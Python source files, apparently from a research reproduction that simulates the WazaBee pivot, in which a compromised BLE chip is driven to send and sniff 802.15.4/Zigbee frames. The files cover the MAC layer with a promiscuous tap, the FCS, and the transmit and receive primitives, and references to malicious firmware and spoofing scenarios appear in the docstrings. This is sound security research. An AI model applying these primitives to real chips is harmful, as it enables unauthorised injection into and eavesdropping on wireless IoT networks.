        self.rng = rng if rng is not None else np.random.default_rng(
            (address.pan_id << 20) ^ address.address ^ 0xC5A3
        )
        self.stats = MacStats()
        self.trace = _current_bus()
        self.metrics = _current_metrics()
        self._sequence = 0
        self._seen: Dict[Tuple[int, int], int] = {}
        self._data_handler: Optional[FrameHandler] = None
        self._command_handler: Optional[FrameHandler] = None
        self._beacon_handler: Optional[FrameHandler] = None
        self._ack_handler: Optional[Callable[[int], None]] = None
        self._sniffer: Optional[FrameHandler] = None
        self._tx_queue: List[_PendingTx] = []
        self._tx_busy = False
        self._ack_wait_handle = None
        self._awaiting_seq: Optional[int] = None

    # -- wiring ------------------------------------------------------------
    def start(self) -> None:
        self.radio.start_rx(self._on_psdu)

    def stop(self) -> None:
        self.radio.stop_rx()

    def on_data(self, handler: FrameHandler) -> None:
        self._data_handler = handler

    def on_command(self, handler: FrameHandler) -> None:
        self._command_handler = handler

    def on_beacon(self, handler: FrameHandler) -> None:
        self._beacon_handler = handler

    def on_ack(self, handler: Callable[[int], None]) -> None:
        self._ack_handler = handler

    def on_any_frame(self, handler: FrameHandler) -> None:
        """Promiscuous tap (before filtering) — the eavesdropping hook."""
        self._sniffer = handler

    @property
    def _scheduler(self):
        return self.radio.transceiver.medium.scheduler

    @property
    def _medium(self):
        return self.radio.transceiver.medium

    # -- sending ------------------------------------------------------------
    def next_sequence(self) -> int:
        self._sequence = (self._sequence + 1) & 0xFF
        return self._sequence

    def send_data(
        self,
        destination: Address,
        payload: bytes,
        ack: bool = True,
        on_result: Optional[SendResultHandler] = None,
    ) -> int:
        """Queue a data frame for CSMA-CA transmission.

        Returns the frame's sequence number immediately; the transmission
        itself proceeds through backoff / CCA / ACK-wait on the scheduler.
        *on_result* (if given) fires with ``(sequence, delivered)`` once the
        frame is acknowledged, confirmed sent (no ACK requested), or
        dropped.
        """
        frame = build_data(
            source=self.address,
            destination=destination,
            payload=payload,
            sequence_number=self.next_sequence(),
            ack_request=ack,
        )
        if self.security is not None:
            frame = self.security.protect(frame)
        self._enqueue(_PendingTx(frame=frame, ack_request=ack, on_result=on_result))
        return frame.sequence_number

    def send_frame(self, frame: MacFrame) -> None:
        """Transmit a pre-built frame immediately (no CSMA, no retries).

        Acknowledgement frames, beacons and injection paths use this; data
        traffic should go through :meth:`send_data`.
        """
        self.radio.transmit_frame(frame)
        self.stats.sent_frames += 1

    # -- CSMA-CA / retransmission -------------------------------------------
    def _enqueue(self, pending: _PendingTx) -> None:
        self._tx_queue.append(pending)
        self._kick_queue()

    def _kick_queue(self) -> None:
        if self._tx_busy or not self._tx_queue:
            return
        self._tx_busy = True
        pending = self._tx_queue[0]
        pending.nb = 0
        pending.be = self.config.min_be
        self._csma_attempt(pending)

    def _csma_attempt(self, pending: _PendingTx) -> None:
        if not self.config.csma_enabled:
            self._transmit_pending(pending)
            return
        slots = int(self.rng.integers(0, 2 ** pending.be))
        delay = slots * self.config.unit_backoff_s
        self._scheduler.schedule(delay, lambda: self._cca(pending))

    def _cca(self, pending: _PendingTx) -> None:
        busy = (
            self.radio.transceiver.is_transmitting
            or self._medium.channel_busy(self.radio.transceiver)
        )
        if not busy:
            self._transmit_pending(pending)
            return
        self.stats.csma_backoffs += 1
        self.metrics.counter("mac.csma_backoffs").inc()
        pending.nb += 1
        pending.be = min(pending.be + 1, self.config.max_be)
        if pending.nb > self.config.max_csma_backoffs:
            self.stats.channel_access_failures += 1
            self.stats.drops += 1
            self.metrics.counter("mac.channel_access_failures").inc()
            self.metrics.counter("mac.drops").inc()
            self._finish_pending(pending, delivered=False)
            return
        self._csma_attempt(pending)

    def _transmit_pending(self, pending: _PendingTx) -> None:
        tx = self.radio.transmit_frame(pending.frame)
        self.stats.sent_frames += 1
        airtime = max(tx.end_time - self._scheduler.now, 0.0)
        if not pending.ack_request:
            # Confirm once the frame has left the antenna (half duplex).
            self._scheduler.schedule(
                airtime, lambda: self._finish_pending(pending, delivered=True)
            )
            return
        self._awaiting_seq = pending.frame.sequence_number
        self._ack_wait_handle = self._scheduler.schedule(
            airtime + self.config.ack_wait_duration_s,
            lambda: self._ack_timeout(pending),
        )

    def _ack_timeout(self, pending: _PendingTx) -> None:
        self._ack_wait_handle = None
        self._awaiting_seq = None
        self.stats.ack_timeouts += 1
        self.metrics.counter("mac.ack_timeouts").inc()
        if pending.retries < self.config.max_frame_retries:
            pending.retries += 1
            self.stats.retries += 1
            self.metrics.counter("mac.retries").inc()
            if self.trace.active:
                self.trace.emit(
                    MAC_RETRY,
                    time=self._scheduler.now,
                    source="mac",
                    node=str(self.address),
                    sequence=pending.frame.sequence_number,
                    attempt=pending.retries + 1,
                )
            pending.nb = 0
            pending.be = self.config.min_be
            self._csma_attempt(pending)
            return
        self.stats.drops += 1
        self.metrics.counter("mac.drops").inc()
        self._finish_pending(pending, delivered=False)

    def _on_matching_ack(self) -> None:
        if self._ack_wait_handle is not None:
            self._ack_wait_handle.cancel()
            self._ack_wait_handle = None
        self._awaiting_seq = None
        if self._tx_queue:
            self._finish_pending(self._tx_queue[0], delivered=True)

    def _finish_pending(self, pending: _PendingTx, delivered: bool) -> None:
        if self._tx_queue and self._tx_queue[0] is pending:
            self._tx_queue.pop(0)
        self._tx_busy = False
        if pending.on_result is not None:
            pending.on_result(pending.frame.sequence_number, delivered)
        self._kick_queue()

    # -- receiving -----------------------------------------------------------
    def _on_psdu(self, received) -> None:
        self.stats.received_frames += 1
        self.metrics.counter("mac.received_frames").inc()
        if not received.fcs_ok:
            self.stats.fcs_failures += 1
            self.metrics.counter("mac.fcs_failures").inc()
            return
        try:
            frame = MacFrame.parse(received.psdu)
        except ValueError:
            return
        if self._sniffer is not None:
            self._sniffer(frame)
        if frame.frame_type is FrameType.ACK:
            self.stats.acks_received += 1
            if (
                self._awaiting_seq is not None
                and frame.sequence_number == self._awaiting_seq
            ):
                self._on_matching_ack()
            if self._ack_handler is not None:
                self._ack_handler(frame.sequence_number)
            return
        if not self.promiscuous and not self._accepts(frame):
            return
        # Acknowledge before duplicate rejection: a retransmission whose
        # original ACK was lost must be re-acknowledged or the sender would
        # retry forever (§6.7.4.1 of the standard does the same).
        if (
            frame.ack_request
            and frame.destination is not None
            and not frame.destination.is_broadcast()
            and frame.destination.address == self.address.address
        ):
            self._schedule_ack(frame.sequence_number)
        if self._is_duplicate(frame):
            self.stats.duplicates += 1
            return
        if frame.frame_type is FrameType.DATA:
            if not self._apply_security(frame):
                return
            if self._data_handler is not None:
                self._data_handler(frame)
        elif frame.frame_type is FrameType.COMMAND:
            self._handle_command(frame)
        elif frame.frame_type is FrameType.BEACON:
            if self._beacon_handler is not None:
                self._beacon_handler(frame)

    def _accepts(self, frame: MacFrame) -> bool:
        dest = frame.destination
        if dest is None:
            # Beacons carry no destination; everyone may process them.
            return frame.frame_type is FrameType.BEACON
        if dest.pan_id not in (self.address.pan_id, BROADCAST_PAN):
            return False
        return dest.address in (self.address.address, BROADCAST_SHORT)

    def _is_duplicate(self, frame: MacFrame) -> bool:
        if frame.source is None:
            return False
        key = (frame.source.pan_id, frame.source.address)
        last = self._seen.get(key)
        if last is not None and last == frame.sequence_number:
            return True
        self._seen[key] = frame.sequence_number
        return False

    def _apply_security(self, frame: MacFrame) -> bool:
        """Enforce the node's security policy on an incoming data frame.

        With a :class:`SecurityContext` configured, unsecured data frames
        are rejected outright and secured ones must authenticate + pass the
        replay check; the clear payload replaces the protected one.
        """
        if self.security is None:
            if frame.security_enabled:
                # No key material: a secured frame is undecodable noise.
                self.stats.security_failures += 1
                return False
            return True
        if not frame.security_enabled:
            self.stats.security_failures += 1
            return False
        try:
            frame.payload = self.security.unprotect(frame)
        except SecurityError:
            self.stats.security_failures += 1
            return False
        return True

    def _schedule_ack(self, sequence_number: int) -> None:
        def send() -> None:
            self.radio.transmit_frame(build_ack(sequence_number))
            self.stats.acks_sent += 1
            self.metrics.counter("mac.acks_sent").inc()

        self._scheduler.schedule(ACK_TURNAROUND_S, send)

    def _handle_command(self, frame: MacFrame) -> None:
        if (
            self.is_coordinator
            and frame.payload[:1] == bytes([CommandId.BEACON_REQUEST])
        ):
            self._schedule_beacon()
        if self._command_handler is not None:
            self._command_handler(frame)

    def _schedule_beacon(self) -> None:
        def send() -> None:
            beacon = build_beacon(
                source=self.address,
                sequence_number=self.next_sequence(),
                beacon_payload=self.beacon_payload,
                pan_coordinator=True,
            )
            self.radio.transmit_frame(beacon)
            self.stats.beacons_sent += 1

        self._scheduler.schedule(BEACON_RESPONSE_DELAY_S, send)
