"""802.15.4 Frame Check Sequence.

The 16-bit ITU-T CRC (``x^16 + x^12 + x^5 + 1``) with a zero seed, computed
over the MHR+payload with bits processed in transmission order and the
result appended least-significant byte first (IEEE 802.15.4-2015 §7.2.10).
This is the CRC-16/KERMIT variant; the unit tests pin the classic
``"123456789" → 0x2189`` check value.

The WazaBee RX experiments in Table III classify received frames by exactly
this check ("calculated the FCS corresponding to the received frame to
assess its integrity").
"""

from __future__ import annotations

from repro.utils.crc import CrcEngine

__all__ = ["FCS_POLY", "compute_fcs", "verify_fcs", "append_fcs", "strip_fcs"]

FCS_POLY = 0x1021

_ENGINE = CrcEngine(width=16, polynomial=FCS_POLY, init=0x0000, reflect_output=True)


def compute_fcs(data: bytes) -> int:
    """FCS of *data* as a 16-bit integer."""
    return _ENGINE.compute(data)


def append_fcs(data: bytes) -> bytes:
    """Return ``data || FCS`` (FCS little-endian, per the standard)."""
    return bytes(data) + compute_fcs(data).to_bytes(2, "little")


def verify_fcs(frame_with_fcs: bytes) -> bool:
    """Check a full MAC frame (payload + trailing 2-byte FCS)."""
    if len(frame_with_fcs) < 2:
        return False
    body, trailer = frame_with_fcs[:-2], frame_with_fcs[-2:]
    return compute_fcs(body) == int.from_bytes(trailer, "little")


def strip_fcs(frame_with_fcs: bytes) -> bytes:
    """Remove a verified FCS; raises if the check fails."""
    if not verify_fcs(frame_with_fcs):
        raise ValueError("FCS check failed")
    return bytes(frame_with_fcs[:-2])
