"""IEEE 802.15.4 MAC layer.

The Zigbee/XBee nodes of the paper's experimental setup (§VI-A) sit on top
of this: frame encoding/decoding (beacon, data, acknowledgement, MAC
command), 16-bit short addressing with PAN identifiers, the FCS, and a small
MAC service handling sequence numbers, acknowledgements and beacon requests
(the hooks Scenario B's active scan and spoofing steps exploit).
"""

from repro.dot15d4.channels import (
    ZIGBEE_CHANNELS,
    channel_frequency_hz,
    channel_for_frequency,
)
from repro.dot15d4.fcs import compute_fcs, verify_fcs
from repro.dot15d4.frames import (
    Address,
    AddressingMode,
    FrameType,
    MacFrame,
    BROADCAST_PAN,
    BROADCAST_SHORT,
)
from repro.dot15d4.mac import MacService

__all__ = [
    "ZIGBEE_CHANNELS",
    "channel_frequency_hz",
    "channel_for_frequency",
    "compute_fcs",
    "verify_fcs",
    "FrameType",
    "AddressingMode",
    "Address",
    "MacFrame",
    "BROADCAST_PAN",
    "BROADCAST_SHORT",
    "MacService",
]
