"""The low-level radio interface WazaBee needs from a compromised chip.

§IV-D lists four requirements: 2 Mbit/s data rate, Zigbee-channel centre
frequency, control of the modulator input, and access to the demodulator
output.  This module captures them as a structural interface so the
primitives can run on any chip model that exposes enough of its radio —
mirroring how the real attack is "not implementation dependent".

Chip models in :mod:`repro.chips` implement this interface; the smartphone
model deliberately does *not* (it only offers the high-level advertising
API), which is why Scenario A needs the whitening pre-inversion trick.
"""

from __future__ import annotations

from typing import Callable, Optional, Protocol, runtime_checkable

import numpy as np

__all__ = ["LowLevelRadio", "RawBitsHandler"]

RawBitsHandler = Callable[[np.ndarray], None]


@runtime_checkable
class LowLevelRadio(Protocol):
    """Register-level radio control, in the style of the nRF RADIO peripheral."""

    def set_frequency(self, frequency_hz: float) -> None:
        """Tune the synthesiser.  Chips without arbitrary tuning raise
        :class:`~repro.chips.capabilities.CapabilityError` for frequencies
        off the BLE channel grid."""

    def set_data_rate_2m(self) -> None:
        """Select the 2 Mbit/s physical layer (LE 2M, or the chip's
        proprietary 2 Mbit/s fallback)."""

    def set_access_address(self, access_address: int) -> None:
        """Program the sync word used for TX framing and RX correlation."""

    def set_whitening(self, enabled: bool, channel: Optional[int] = None) -> None:
        """Enable/disable whitening; *channel* selects the LFSR seed."""

    def set_crc_enabled(self, enabled: bool) -> None:
        """Enable/disable hardware CRC generation/checking."""

    def send_raw_bits(self, payload_bits: np.ndarray) -> None:
        """Transmit preamble + access address + *payload_bits* (whitened if
        whitening is enabled)."""

    def arm_receiver(self, max_payload_bits: int, handler: RawBitsHandler) -> None:
        """Enter RX; on each sync-word match deliver up to
        *max_payload_bits* demodulated payload bits (de-whitened if
        whitening is enabled) to *handler*."""

    def disarm_receiver(self) -> None:
        """Leave RX mode."""

    @property
    def whitening_enabled(self) -> bool:
        """Whether the whitener is currently active."""

    @property
    def whitening_channel(self) -> int:
        """Channel index currently seeding the whitening LFSR."""
