"""The paper's contribution: the WazaBee pivot.

* :mod:`repro.core.tables` — Algorithm 1 (PN sequence → MSK encoding) and
  the 16-entry correspondence table used by both primitives.
* :mod:`repro.core.encoding` — frame-level encoding: an entire 802.15.4
  chip stream rendered as the bit sequence a BLE GFSK modulator must send,
  and the Access Address that makes a BLE receiver sync on an 802.15.4
  preamble.
* :mod:`repro.core.channel_map` — Table II: the Zigbee channels reachable
  through BLE channel frequencies.
* :mod:`repro.core.tx` / :mod:`repro.core.rx` — the transmission and
  reception primitives (§IV-D).
* :mod:`repro.core.firmware` — the "malicious firmware" tying primitives to
  a compromised BLE chip model.
"""

from repro.core.channel_map import (
    COMMON_CHANNELS,
    ble_channel_for_zigbee,
    zigbee_channel_for_ble,
)
from repro.core.encoding import (
    frame_to_msk_bits,
    wazabee_access_address,
    wazabee_access_address_bits,
)
from repro.core.rx import DecodedFrame, WazaBeeReceiver
from repro.core.tables import CorrespondenceTable, pn_to_msk
from repro.core.tx import WazaBeeTransmitter
from repro.core.firmware import WazaBeeFirmware

__all__ = [
    "pn_to_msk",
    "CorrespondenceTable",
    "COMMON_CHANNELS",
    "ble_channel_for_zigbee",
    "zigbee_channel_for_ble",
    "frame_to_msk_bits",
    "wazabee_access_address",
    "wazabee_access_address_bits",
    "WazaBeeTransmitter",
    "WazaBeeReceiver",
    "DecodedFrame",
    "WazaBeeFirmware",
]
