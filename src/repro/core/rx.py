"""The WazaBee reception primitive (§IV-D).

The diverted BLE receiver is configured so that its sync-word correlator
fires on the 802.15.4 preamble (Access Address = MSK-encoded ``0000`` PN
sequence), CRC checking is disabled, and the maximum payload length is
requested.  The demodulated bit stream is then decoded here:

* the stream is split into 32-bit strides (one DSSS symbol each: the
  symbol-boundary transition bit followed by the paper's 31-bit block);
* each 31-bit block is matched to the correspondence table by minimum
  Hamming distance;
* the Start-of-Frame Delimiter is located among the leading symbols (the
  correlator may have locked onto any of the eight preamble repetitions);
* the PHR length field delimits the PSDU, whose FCS is then verified —
  Table III's valid / corrupted / lost classification.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Callable, List, Optional

import numpy as np

from repro.ble.whitening import whiten
from repro.chips.capabilities import CapabilityError
from repro.core.encoding import MSK_STRIDE, wazabee_access_address
from repro.core.radio_api import LowLevelRadio
from repro.core.tables import CorrespondenceTable, default_table
from repro.dot15d4.channels import channel_frequency_hz
from repro.dot15d4.fcs import verify_fcs
from repro.errors import DecodeError
from repro.obs import RX_CAPTURE, RX_DECODE, RX_FCS
from repro.obs import metrics as _current_metrics
from repro.obs import sim_now
from repro.obs import trace_bus as _current_bus
from repro.phy.ieee802154 import MAX_PSDU_SIZE, Ppdu, symbol_confidences

__all__ = ["DecodedFrame", "decode_payload_bits", "WazaBeeReceiver"]

#: Payload bits to request from the radio: enough for the SHR remainder,
#: PHR and a maximum-size PSDU.
MAX_CAPTURE_BITS = MSK_STRIDE * (10 + 2 * (1 + MAX_PSDU_SIZE))


@dataclass
class DecodedFrame:
    """Outcome of decoding one captured bit stream."""

    psdu: bytes
    fcs_ok: bool
    sfd_index: int
    symbols: List[int] = field(default_factory=list)
    distances: List[int] = field(default_factory=list)

    @property
    def mean_distance(self) -> float:
        """Average Hamming distance of the matched blocks (decode quality)."""
        if not self.distances:
            return 0.0
        return float(np.mean(self.distances))

    @property
    def confidences(self) -> List[float]:
        """Per-symbol decode confidence in [0, 1].

        Each DSSS block is 31 bits; a perfect match (distance 0) scores
        1.0, the worst credible match (distance 15, half the minimum
        inter-sequence distance away from everything) scores ~0.5.  The
        FCS-failed salvage path uses these to point at the corrupted
        region of a frame.  The mapping itself is
        :func:`repro.phy.ieee802154.symbol_confidences`, shared with the
        batched wideband pipeline so soft decisions from either receive
        path are directly comparable.
        """
        return symbol_confidences(self.distances)


def decode_payload_bits(
    bits: np.ndarray,
    table: Optional[CorrespondenceTable] = None,
    sfd_search_limit: int = 12,
    max_mean_distance: Optional[float] = None,
    strict: bool = False,
) -> Optional[DecodedFrame]:
    """Decode a raw post-Access-Address bit capture into an 802.15.4 frame.

    Returns ``None`` when no SFD is found, the frame is truncated, or —
    with *max_mean_distance* set — the mean Hamming distance of the
    matched blocks exceeds the confidence threshold (the capture was
    essentially noise that happened to correlate).  With ``strict=True``
    those outcomes raise :class:`~repro.errors.DecodeError` carrying the
    failure class (``no-sfd`` / ``truncated`` / ``low-confidence``)
    instead.
    """
    table = table or default_table()
    arr = np.asarray(bits, dtype=np.uint8)
    num_strides = arr.size // MSK_STRIDE
    if num_strides < 3:
        return _decode_failure("truncated", strict)
    # Stride layout: [symbol-boundary transition, 31 intra bits].  Reshape
    # the capture into an (N, 31) block matrix and despread all symbols in
    # one vectorised pass (scalar reference: CorrespondenceTable.decode_block).
    blocks = arr[: num_strides * MSK_STRIDE].reshape(num_strides, MSK_STRIDE)[
        :, 1:
    ]
    symbol_arr, distance_arr = table.decode_blocks(blocks)
    symbols: List[int] = symbol_arr.tolist()
    distances: List[int] = distance_arr.tolist()
    sfd_index = Ppdu.find_sfd(symbols, search_limit=sfd_search_limit)
    if sfd_index is None:
        return _decode_failure("no-sfd", strict)
    ppdu = Ppdu.parse_symbols(symbols[sfd_index:])
    if ppdu is None:
        return _decode_failure("truncated", strict)
    used = sfd_index + 4 + 2 * len(ppdu.psdu)
    frame = DecodedFrame(
        psdu=ppdu.psdu,
        fcs_ok=verify_fcs(ppdu.psdu),
        sfd_index=sfd_index,
        symbols=symbols[:used],
        distances=distances[:used],
    )
    if (
        max_mean_distance is not None
        and frame.mean_distance > max_mean_distance
    ):
        return _decode_failure(
            "low-confidence", strict, mean_distance=frame.mean_distance
        )
    return frame


def _decode_failure(
    reason: str, strict: bool, mean_distance: float = 0.0
) -> Optional[DecodedFrame]:
    if strict:
        raise DecodeError(reason, mean_distance=mean_distance)
    return None


FrameHandler = Callable[[DecodedFrame], None]


class WazaBeeReceiver:
    """Reception primitive bound to a low-level radio.

    *max_mean_distance* is an optional decode-confidence threshold: decoded
    frames whose mean block Hamming distance exceeds it are discarded as
    noise (counted in :attr:`low_confidence_drops`) instead of being handed
    to the application.

    Handler contract: every decoded frame is delivered to **exactly one**
    handler.  The main *handler* receives only FCS-valid frames; the
    optional *corrupt_handler* receives the FCS-failed ones — the salvage
    path: such a frame still carries per-symbol confidences, so callers can
    localise the damage or fuse repeated corrupted receptions.  Without a
    *corrupt_handler*, FCS-failed frames are dropped (counted in
    :attr:`corrupt_drops`).
    """

    def __init__(
        self,
        radio: LowLevelRadio,
        table: Optional[CorrespondenceTable] = None,
        max_mean_distance: Optional[float] = None,
    ):
        self.radio = radio
        self.table = table or default_table()
        self.max_mean_distance = max_mean_distance
        self.low_confidence_drops = 0
        self.corrupt_drops = 0
        self._handler: Optional[FrameHandler] = None
        self._corrupt_handler: Optional[FrameHandler] = None
        self._channel: Optional[int] = None
        self.trace = _current_bus()
        self.metrics = _current_metrics()

    def start(
        self,
        zigbee_channel: int,
        handler: FrameHandler,
        corrupt_handler: Optional[FrameHandler] = None,
    ) -> None:
        """Configure the radio per §IV-D and begin receiving."""
        self.radio.set_data_rate_2m()
        self.radio.set_frequency(channel_frequency_hz(zigbee_channel))
        self.radio.set_access_address(wazabee_access_address())
        self.radio.set_crc_enabled(False)
        try:
            self.radio.set_whitening(False)
        except CapabilityError:
            # Chip forces whitening on; _on_bits undoes it per capture.
            pass
        self._handler = handler
        self._corrupt_handler = corrupt_handler
        self._channel = zigbee_channel
        self.radio.arm_receiver(MAX_CAPTURE_BITS, self._on_bits)

    def stop(self) -> None:
        self.radio.disarm_receiver()
        self._handler = None
        self._corrupt_handler = None

    def _on_bits(self, bits: np.ndarray) -> None:
        if self._handler is None:
            return
        now = sim_now(self.radio)
        self.metrics.counter("rx.captures").inc()
        if self.trace.active:
            self.trace.emit(
                RX_CAPTURE, time=now, bits=int(len(bits)), channel=self._channel
            )
        if self.radio.whitening_enabled:
            # The radio de-whitened what was never whitened; undo it.
            bits = whiten(bits, self.radio.whitening_channel)
        try:
            # Strict mode so the failure class (no-sfd / truncated) reaches
            # the trace; the event-driven contract stays "drop and carry on".
            with self.metrics.timer("rx.decode").time():
                frame = decode_payload_bits(bits, table=self.table, strict=True)
        except DecodeError as error:
            self.metrics.counter("rx.decode.failed").inc()
            self.metrics.counter(f"rx.decode.failed.{error.reason}").inc()
            if self.trace.active:
                self.trace.emit(
                    RX_DECODE,
                    time=now,
                    outcome=error.reason,
                    mean_distance=error.mean_distance,
                    channel=self._channel,
                )
            return
        if (
            self.max_mean_distance is not None
            and frame.mean_distance > self.max_mean_distance
        ):
            self.low_confidence_drops += 1
            self.metrics.counter("rx.decode.failed").inc()
            self.metrics.counter("rx.decode.failed.low-confidence").inc()
            if self.trace.active:
                self.trace.emit(
                    RX_DECODE,
                    time=now,
                    outcome="low-confidence",
                    mean_distance=frame.mean_distance,
                    channel=self._channel,
                )
            return
        self.metrics.counter("rx.decode.ok").inc()
        if self.trace.active:
            self.trace.emit(
                RX_DECODE,
                time=now,
                outcome="ok",
                mean_distance=frame.mean_distance,
                channel=self._channel,
            )
            self.trace.emit(
                RX_FCS,
                time=now,
                ok=frame.fcs_ok,
                psdu_bytes=len(frame.psdu),
                channel=self._channel,
            )
        if frame.fcs_ok:
            self.metrics.counter("rx.fcs.ok").inc()
        else:
            self.metrics.counter("rx.fcs.fail").inc()
            # FCS-failed frames take the salvage path only; the main
            # handler's contract is "FCS-valid frames".
            if self._corrupt_handler is not None:
                self.metrics.counter("rx.frames.corrupt_delivered").inc()
                self._corrupt_handler(frame)
            else:
                self.corrupt_drops += 1
                self.metrics.counter("rx.drops.corrupt").inc()
            return
        self.metrics.counter("rx.frames.valid_delivered").inc()
        self._handler(frame)

    @property
    def channel(self) -> Optional[int]:
        return self._channel
