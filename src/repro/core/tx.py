"""The WazaBee transmission primitive (§IV-D).

Builds an arbitrary 802.15.4 frame, spreads it to chips, re-encodes the
chip stream as MSK rotation bits and hands those bits to the diverted BLE
radio at 2 Mbit/s on the target Zigbee channel's frequency.

Whitening handling follows the paper exactly: disable it when the chip
allows; otherwise *pre-apply* the (self-inverse) whitening transform so the
radio's whitener cancels it and the on-air bits equal the chip stream.
"""

from __future__ import annotations

from typing import Optional

import numpy as np

from repro.ble.whitening import whiten
from repro.chips.capabilities import CapabilityError
from repro.core.encoding import frame_to_msk_bits, wazabee_access_address
from repro.core.radio_api import LowLevelRadio
from repro.dot15d4.channels import channel_frequency_hz
from repro.dot15d4.frames import MacFrame
from repro.obs import TX_FRAME
from repro.obs import metrics as _current_metrics
from repro.obs import sim_now
from repro.obs import trace_bus as _current_bus

__all__ = ["WazaBeeTransmitter"]


class WazaBeeTransmitter:
    """Transmission primitive bound to a low-level radio."""

    def __init__(self, radio: LowLevelRadio):
        self.radio = radio
        self._configured_channel: Optional[int] = None
        self.trace = _current_bus()
        self.metrics = _current_metrics()

    def configure(self, zigbee_channel: int) -> None:
        """Apply the §IV-D radio configuration for a Zigbee channel.

        * data rate 2 Mbit/s (chip rate of 802.15.4);
        * centre frequency of the target channel;
        * Access Address set to the MSK-encoded ``0000`` PN sequence — on
          transmission it acts as one extra 802.15.4 preamble symbol;
        * CRC generation off (an appended CRC-24 would corrupt the chip
          stream);
        * whitening off when possible, pre-inverted otherwise.
        """
        self.radio.set_data_rate_2m()
        self.radio.set_frequency(channel_frequency_hz(zigbee_channel))
        self.radio.set_access_address(wazabee_access_address())
        self.radio.set_crc_enabled(False)
        try:
            self.radio.set_whitening(False)
        except CapabilityError:
            # Chip forces whitening on; leave it enabled and compensate in
            # transmit() via pre-inversion.
            pass
        self._configured_channel = zigbee_channel
        # Pay waveform-cache construction at configure time, not inside the
        # first transmit (radios without the hook just skip the warm-up).
        warm = getattr(self.radio, "warm_tx_path", None)
        if callable(warm):
            warm()

    def transmit(self, frame: MacFrame) -> np.ndarray:
        """Send a MAC frame; returns the payload bits given to the radio."""
        return self.transmit_psdu(frame.to_bytes())

    def transmit_psdu(self, psdu: bytes) -> np.ndarray:
        """Send a raw PSDU (FCS included) as an 802.15.4 frame."""
        if self._configured_channel is None:
            raise RuntimeError("call configure(zigbee_channel) first")
        with self.metrics.timer("tx.spread").time():
            bits = frame_to_msk_bits(psdu)
        if self.radio.whitening_enabled:
            # Pre-de-whiten so the hardware whitener restores the raw
            # stream on air (whitening is XOR with a fixed per-channel
            # sequence, hence an involution).
            bits = whiten(bits, self.radio.whitening_channel)
        self.radio.send_raw_bits(bits)
        self.metrics.counter("tx.frames").inc()
        if self.trace.active:
            self.trace.emit(
                TX_FRAME,
                time=sim_now(self.radio),
                channel=self._configured_channel,
                psdu_bytes=len(psdu),
                bits=int(bits.size),
            )
        return bits

    @property
    def channel(self) -> Optional[int]:
        return self._configured_channel
