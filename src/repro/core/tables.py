"""Algorithm 1 and the PN→MSK correspondence table (§IV-C).

The heart of WazaBee: each 32-chip PN sequence, viewed as an O-QPSK
phase trajectory, is re-encoded as the 31 rotation directions an MSK
(≈ BLE GFSK) modem would produce/observe — ``1`` for a counter-clockwise
+π/2 step, ``0`` for a clockwise −π/2 step.

:func:`pn_to_msk` transcribes the paper's Algorithm 1 verbatim, including
its fixed initial state (state 0, i.e. the I/Q quadrant ``(+,+)``).  Because
the algorithm starts at chip index 1, that initial state encodes an
*assumption* about chip 0 (that the preceding I-pulse was positive); the
physics-exact stream conversion in :mod:`repro.dsp.msk` agrees with
Algorithm 1 on every bit whenever that assumption holds, and the test suite
pins down the exact relationship.  For despreading, a fixed per-symbol table
is what matters — both ends use the same one, and Hamming-distance matching
absorbs boundary effects (§IV-D).
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Dict, List, Tuple

import numpy as np

from repro.phy.ieee802154 import CHIPS_PER_SYMBOL, PN_SEQUENCES
from repro.utils.bits import as_bit_array

__all__ = ["pn_to_msk", "CorrespondenceTable", "MSK_BITS_PER_SYMBOL"]

MSK_BITS_PER_SYMBOL = CHIPS_PER_SYMBOL - 1

# The paper's state tables: state s is the I/Q quadrant
# (evenStates[s], oddStates[s]) reached mid-chip.
_EVEN_STATES = (1, 0, 0, 1)
_ODD_STATES = (1, 1, 0, 0)


def pn_to_msk(oqpsk_sequence) -> np.ndarray:
    """Algorithm 1: convert a 32-chip PN sequence to its 31-bit MSK encoding.

    A direct transcription of the paper's pseudocode.
    """
    seq = as_bit_array(oqpsk_sequence)
    if seq.size != CHIPS_PER_SYMBOL:
        raise ValueError(
            f"expected {CHIPS_PER_SYMBOL} chips, got {seq.size}"
        )
    msk = np.empty(MSK_BITS_PER_SYMBOL, dtype=np.uint8)
    current_state = 0
    for i in range(1, CHIPS_PER_SYMBOL):
        states = _ODD_STATES if i % 2 == 1 else _EVEN_STATES
        if seq[i] == states[(current_state + 1) % 4]:
            current_state = (current_state + 1) % 4
            msk[i - 1] = 1
        else:
            current_state = (current_state - 1) % 4
            msk[i - 1] = 0
    return msk


@dataclass(frozen=True)
class CorrespondenceTable:
    """The full 16-symbol correspondence table.

    ``matrix`` stacks the MSK encodings of the 16 PN sequences as a
    ``(16, 31)`` array for vectorised minimum-Hamming-distance lookup —
    the decoding step of the reception primitive.
    """

    matrix: np.ndarray

    @classmethod
    def build(cls) -> "CorrespondenceTable":
        rows = [pn_to_msk(seq) for seq in PN_SEQUENCES]
        return cls(matrix=np.stack(rows))

    def msk_sequence(self, symbol: int) -> np.ndarray:
        """MSK encoding of one DSSS symbol (31 bits)."""
        if not 0 <= symbol <= 15:
            raise ValueError(f"symbol {symbol} out of range")
        return self.matrix[symbol]

    def decode_block(self, bits) -> Tuple[int, int]:
        """Best symbol for a 31-bit received block.

        Returns ``(symbol, hamming_distance)`` — "a Hamming distance is
        calculated in order to find which PN sequence encoded in MSK fits
        the best the received block" (§IV-D).
        """
        arr = as_bit_array(bits)
        if arr.size != MSK_BITS_PER_SYMBOL:
            raise ValueError(
                f"expected {MSK_BITS_PER_SYMBOL} bits, got {arr.size}"
            )
        distances = np.count_nonzero(self.matrix != arr[None, :], axis=1)
        best = int(np.argmin(distances))
        return best, int(distances[best])

    def decode_blocks(self, blocks) -> Tuple[np.ndarray, np.ndarray]:
        """Vectorised :meth:`decode_block` over a whole capture.

        *blocks* is an ``(N, 31)`` array of received bits — one row per
        DSSS symbol.  All N×16 Hamming distances are computed in a single
        broadcast XOR/popcount, then reduced with ``argmin`` per row.
        Returns ``(symbols, distances)`` as length-``N`` ``int64`` arrays,
        bit-exact with calling :meth:`decode_block` on each row (ties
        resolve to the lowest symbol index in both).
        """
        arr = np.asarray(blocks, dtype=np.uint8)
        if arr.ndim != 2 or arr.shape[1] != MSK_BITS_PER_SYMBOL:
            raise ValueError(
                f"expected an (N, {MSK_BITS_PER_SYMBOL}) block matrix, "
                f"got shape {arr.shape}"
            )
        # (N, 1, 31) vs (1, 16, 31) -> (N, 16) distance matrix in one
        # broadcast compare-and-popcount.
